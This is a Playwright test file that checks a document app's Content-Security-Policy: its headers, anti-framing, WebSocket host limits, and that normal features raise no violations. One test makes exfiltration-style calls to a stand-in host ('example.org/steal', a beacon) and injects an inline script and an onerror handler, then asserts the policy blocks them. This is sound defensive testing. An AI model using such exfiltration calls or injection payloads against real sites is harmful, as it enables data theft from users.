import type { Page } from '@playwright/test';
import { createWorkspace, expect, openDocument, test, typeAtEnd } from './fixtures';
import { readInviteLink } from './peers';

/** Records every Content-Security-Policy violation the page reports, from its first script on. */
const RECORD_VIOLATIONS = () => {
	const seen: string[] = [];
	(window as unknown as { __violations: string[] }).__violations = seen;
	document.addEventListener('securitypolicyviolation', (event) =>
		seen.push(`${event.effectiveDirective} ${event.blockedURI}`)
	);
};

function violations(page: Page): Promise<string[]> {
	return page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('every response of the server carries the policy, with framing forbidden', async ({
	request
}) => {
	for (const path of ['/', '/w/some-workspace/d/some-document', '/service-worker.js']) {
		const response = await request.get(path);
		expect(response.status(), path).toBe(200);
		const policy = response.headers()['content-security-policy'] ?? '';
		expect(policy, path).toContain("frame-ancestors 'none'");
		expect(policy, path).toContain("object-src 'none'");
		expect(policy, path).toContain("base-uri 'none'");
		expect(policy, path).toContain("form-action 'none'");
		expect(policy, path).toMatch(/script-src 'self' 'sha256-[^']+'(;|$)/);
		expect(policy, path).not.toContain('unsafe-eval');
		expect(response.headers()['x-frame-options']).toBe('DENY');
	}
	// The page itself declares the same policy, for any other static host that serves the build.
	const html = await (await request.get('/')).text();
	expect(html).toMatch(/<meta http-equiv="content-security-policy"[^>]*script-src/i);
});

test('the app works under its policy: creating, writing, inviting, exporting, importing', async ({
	page
}) => {
	await page.addInitScript(RECORD_VIOLATIONS);
	await createWorkspace(page, 'Policy Group');
	await typeAtEnd(page, 'Charter', 'Written under a strict policy.');
	await readInviteLink(page); // the QR code is a data: image
	await page.getByRole('button', { name: 'Export' }).click();
	const [download] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('menuitem', { name: 'Word (DOCX)', exact: true }).click()
	]);
	expect(download.suggestedFilename()).toMatch(/\.docx$/);
	const [chooser] = await Promise.all([
		page.waitForEvent('filechooser'),
		page.getByRole('button', { name: 'Import document' }).click()
	]);
	await chooser.setFiles({
		name: 'notes.md',
		mimeType: 'text/markdown',
		buffer: Buffer.from('# Imported notes\n\nThrough the import worker.')
	});
	await expect(page.getByRole('textbox', { name: 'Imported notes' })).toContainText(
		'Through the import worker.'
	);
	expect(await violations(page)).toEqual([]);
});

test('the page may not reach other hosts or run injected scripts', async ({ page }) => {
	await page.addInitScript(RECORD_VIOLATIONS);
	await page.goto('/');
	await expect(page.getByRole('button', { name: 'New workspace' })).toBeVisible();

	const outcome = await page.evaluate(async () => {
		const tried = async (what: () => Promise<unknown>) =>
			what().then(
				() => 'allowed',
				(error: Error) => error.name
			);
		const fetched = await tried(() => fetch('https://example.org/steal?x=1'));
		navigator.sendBeacon('https://example.org/beacon', 'x');
		// An inline script and an inline handler, as injected markup would carry them.
		const script = document.createElement('script');
		script.textContent = 'window.__ran = "script"';
		document.body.append(script);
		const image = document.createElement('div');
		image.innerHTML = '<img src="data:," onerror="window.__ran = \'handler\'">';
		document.body.append(image);
		await new Promise((resolve) => setTimeout(resolve, 200));
		return { fetched, ran: (window as { __ran?: string }).__ran ?? null };
	});
	expect(outcome).toEqual({ fetched: 'TypeError', ran: null });
	const seen = await violations(page);
	expect(seen).toContain('connect-src https://example.org/steal?x=1');
	expect(seen).toContain('connect-src https://example.org/beacon');
	expect(seen).toContain('script-src-elem inline');
	expect(seen).toContain('script-src-attr inline');
});

test('WebSockets reach only this origin and the signaling servers this device uses', async ({
	page
}) => {
	await page.addInitScript(RECORD_VIOLATIONS);
	await page.goto('/');
	await expect(page.getByRole('button', { name: 'New workspace' })).toBeVisible();
	const installed = await page
		.locator('head meta[http-equiv="Content-Security-Policy"]')
		.evaluateAll((metas) => metas.map((m) => m.getAttribute('content')));
	const origin = new URL(page.url());
	expect(installed).toContain(`connect-src 'self' ws://${origin.host}`);

	await page.evaluate(async () => {
		// Any ws: host is allowed by the page as built; the policy installed at start is stricter.
		const other = new WebSocket('ws://127.0.0.1:9/elsewhere');
		const own = new WebSocket(`ws://${location.host}/signal`);
		await new Promise((resolve) => setTimeout(resolve, 300));
		other.close();
		own.close();
	});
	const seen = await violations(page);
	expect(seen).toContain('connect-src ws://127.0.0.1:9/elsewhere');
	expect(seen.filter((v) => v.includes(origin.host))).toEqual([]);
});

test('a signaling server added in Settings is allowed once the workspace opens again', async ({
	page
}) => {
	await createWorkspace(page, 'New Server Group');
	const policies = () =>
		page
			.locator('head meta[http-equiv="Content-Security-Policy"]')
			.evaluateAll((metas) => metas.map((m) => m.getAttribute('content') ?? ''));
	expect((await policies()).join(' ')).not.toContain('ws://127.0.0.1:9');

	// Within the app, without loading a page: Settings, add a server, back to the workspace.
	await page.getByRole('link', { name: 'Settings' }).click();
	await page
		.getByRole('textbox', { name: 'Signaling server address' })
		.fill('ws://127.0.0.1:9/signal');
	await page.getByRole('button', { name: 'Add signaling server' }).click();
	await page.getByRole('link', { name: 'All workspaces' }).click();
	await page.getByRole('link', { name: /New Server Group/ }).click();
	await openDocument(page, 'Charter');
	// The page was loaded afresh, so its one connection policy now names the new server.
	const narrowed = (await policies()).filter((policy) => policy.startsWith('connect-src'));
	expect(narrowed).toHaveLength(1);
	expect(narrowed[0]).toContain('ws://127.0.0.1:9');
});

test('the app cannot be shown inside another site’s frame', async ({ page, baseURL }) => {
	// A page of another origin (answered by the test, never by the network) frames the app.
	await page.route('http://framing.test/', (route) =>
		route.fulfill({
			contentType: 'text/html',
			body: `<iframe title="framed" src="${baseURL}/"></iframe>`
		})
	);
	await page.goto('http://framing.test/');
	const frame = () => page.frames().find((f) => f !== page.mainFrame());
	// Chromium shows its error page in place of a frame the policy refuses.
	await expect.poll(() => frame()?.url()).toBe('chrome-error://chromewebdata/');
	await expect(
		page.frameLocator('iframe').getByRole('button', { name: 'New workspace' })
	).toHaveCount(0);
});
